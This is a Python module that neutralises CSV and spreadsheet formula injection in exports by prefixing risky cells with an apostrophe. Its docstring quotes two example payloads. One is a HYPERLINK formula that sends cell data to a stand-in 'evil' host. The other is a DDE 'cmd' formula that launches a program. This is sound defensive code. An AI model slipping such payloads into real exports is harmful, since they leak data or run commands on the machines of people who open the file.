"""Spreadsheet exports (CSV and workbooks): every cell goes through :func:`safe_cell`.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is a formula to Excel, WPS and LibreOffice: a trainee named
``=HYPERLINK("http://evil/?"&A1,"点击")`` or a reason ``=cmd|' /C calc'!A0``
would run or leak data on the admin's PC when the export is opened (CSV
injection). Such text gets a leading apostrophe, which the spreadsheet shows
as plain text. Numbers, dates and empty cells pass unchanged.

Use it for EVERY export, CSV or xlsx alike::

    from server.services.exports import csv_bytes, safe_cell, safe_row

    csv_bytes(header, rows)                      # a CSV that Excel opens (UTF-8 BOM)
    sheet.append(safe_row(values))               # an openpyxl worksheet row
    cell.value = safe_cell(value)                # a single openpyxl cell
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

# What makes a spreadsheet read a cell as a formula (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a spreadsheet cell: text that would start a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A whole row through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]


def csv_bytes(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """A CSV file of ``header`` and ``rows``, every cell made safe, as UTF-8 with a BOM (so Excel reads Chinese)."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
    return ("\ufeff" + out.getvalue()).encode("utf-8")
